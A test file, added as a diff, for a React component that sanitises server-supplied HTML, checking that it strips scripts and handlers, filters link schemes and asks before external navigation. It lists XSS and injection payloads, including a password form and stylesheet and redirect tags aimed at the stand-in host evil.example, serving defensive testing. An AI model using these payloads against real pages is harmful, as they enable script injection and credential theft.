@@ -1,0 +1,136 @@
+import { render, screen, waitFor } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { describe, expect, test, vi } from 'vitest';
+
+import { setApiBase } from '#api/base.ts';
+import { ServerHtml } from '#parts/ServerHtml.tsx';
+import { DialogHost } from '#ui/dialogs.tsx';
+
+async function show(html: string): Promise<HTMLElement> {
+  setApiBase('');
+  const { container } = render(
+    <div data-testid="page">
+      <ServerHtml html={`<hr>${html}`} />
+      <DialogHost />
+    </div>,
+  );
+  await screen.findByRole('separator');
+  return container;
+}
+
+const HOSTILE = [
+  '<script>window.hacked = 1</script>',
+  '<img src=x onerror="window.hacked = 1">',
+  '<svg onload="window.hacked = 1"><circle r=9 /></svg>',
+  '<svg><animate onbegin="window.hacked = 1" attributeName=x dur=1s></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
+  '<style>@import url(https://evil.example/a.css); * { display: none }</style>',
+  '<form action="https://evil.example/"><input name="password"><button>OK</button></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
+  '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/a.swf">',
+  '<video src="https://evil.example/a.mp4" autoplay onloadstart="window.hacked = 1"></video>',
+  '<img srcset="https://evil.example/a.png 1x" src="javascript:window.hacked=1">',
+  '<template><img src=x onerror="window.hacked = 1"></template>',
+  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
+  '<p style="position:fixed;inset:0;background:url(https://evil.example/a.png)">x</p>',
+  '<p onclick="window.hacked = 1" onpointerenter="window.hacked = 1">x</p>',
+  '<link rel="stylesheet" href="https://evil.example/a.css">',
+];
+const FORBIDDEN =
+  'script, style, link, meta, base, iframe, object, embed, form, input, button, svg, math, video, audio, template, noscript';
+
+describe('HTML of a server', () => {
+  test.each(HOSTILE)('[D-102, D-208] runs and loads nothing: %s', async (html) => {
+    const page = await show(html);
+    const box = page.querySelector('hr')?.parentElement;
+    expect(box?.querySelectorAll(FORBIDDEN)).toHaveLength(0);
+    for (const element of box?.querySelectorAll('*') ?? []) {
+      for (const { name, value } of element.attributes) {
+        expect(name).not.toMatch(/^on|^style$|^srcset$/);
+        expect(value).not.toMatch(/javascript:|evil\.example/);
+      }
+    }
+    expect('hacked' in window).toBe(false);
+  });
+
+  test('keeps what an editor writes: headings, lists, tables, emphasis, pictures', async () => {
+    await show(
+      '<h2>活动规则</h2><p>首存 <strong>100</strong></p><ol><li>一</li><li>二</li></ol>' +
+        '<table><tbody><tr><th>等级</th><td>3</td></tr></tbody></table><img src="/uploads/a.png" alt="海报">',
+    );
+    expect(screen.getByRole('heading', { name: '活动规则', level: 2 })).toBeDefined();
+    expect(screen.getAllByRole('listitem').map((item) => item.textContent)).toEqual(['一', '二']);
+    expect(screen.getByRole('cell', { name: '3' })).toBeDefined();
+    expect(screen.getByRole('img', { name: '海报' }).getAttribute('src')).toBe('/uploads/a.png');
+    expect(screen.getByText('100').tagName).toBe('STRONG');
+  });
+
+  test('shows plain text as it is', async () => {
+    const page = await show('1 < 2 & 3');
+    expect(page.textContent).toContain('1 < 2 & 3');
+  });
+
+  test.each([
+    ['https://a.example/x?y=1', true],
+    ['http://a.example/', true],
+    ['tel:+8610086', true],
+    ['mailto:help@a.example', true],
+    ['javascript:alert(1)', false],
+    ['JaVaScRiPt:alert(1)', false],
+    ['\tjavascript:alert(1)', false],
+    ['data:text/html,<script>alert(1)</script>', false],
+    ['vbscript:x', false],
+    ['tg://resolve?domain=x', false],
+    ['//evil.example/', false],
+    ['https:\\\\evil.example', false],
+    ['https://user:secret@evil.example/', false],
+    ['ftp://evil.example/', false],
+    ['#/withdrawal', false],
+  ])('[D-208] follows %s: %s', async (address, isFollowed) => {
+    await show(`<a id="root" name="Telegram" href="${address.replaceAll('"', '&quot;')}">详情</a>`);
+    const link = screen.getByText('详情');
+    expect(link.hasAttribute('href')).toBe(isFollowed);
+    // Neither answers to a name of ours (trust C-03).
+    expect(link.id + (link.getAttribute('name') ?? '')).toBe('');
+    if (isFollowed) expect(link.getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  test('says which host a link leads to, and leaves only after a yes', async () => {
+    const open = vi.spyOn(window, 'open').mockReturnValue(null);
+    await show('<p><a href="https://a.example/x">详情</a></p>');
+    const user = userEvent.setup();
+    await user.click(screen.getByRole('link', { name: '详情' }));
+    expect((await screen.findByRole('alertdialog')).textContent).toContain('a.example');
+    expect(open).not.toHaveBeenCalled();
+    await user.click(screen.getByRole('button', { name: '取消' }));
+    await user.click(screen.getByRole('link', { name: '详情' }));
+    await user.click(await screen.findByRole('button', { name: '确定' }));
+    await waitFor(() => expect(open).toHaveBeenCalledWith('https://a.example/x', '_blank', 'noopener,noreferrer'));
+    expect(open).toHaveBeenCalledTimes(1);
+  });
+
+  test('keeps harmless styles, and no colour, place or picture', async () => {
+    await show('<p style="TEXT-ALIGN: center; font-weight:bold; color:#000; position:fixed; width:calc(1px)">甲</p>');
+    const { style } = screen.getByText('甲');
+    expect([style.textAlign, style.fontWeight]).toEqual(['center', 'bold']);
+    expect(style).toHaveLength(2);
+  });
+
+  test('changes with its source, and leaves nothing of the last one', async () => {
+    const { rerender } = render(<ServerHtml html="<p>一</p>" />);
+    await screen.findByText('一');
+    rerender(<ServerHtml html="<p>二</p>" />);
+    await screen.findByText('二');
+    expect(screen.queryByText('一')).toBeNull();
+  });
+
+  test('drops a picture that fails, and text no phone could show', async () => {
+    const page = await show(`<img src="gone.png">${'长'.repeat(10)}`);
+    page.querySelector('img')?.dispatchEvent(new Event('error'));
+    expect(page.querySelector('img')).toBeNull();
+    const { container } = render(<ServerHtml html={'x'.repeat(5_000_000)} />);
+    await waitFor(() => expect(container.textContent).toHaveLength(200_000));
+  });
+});
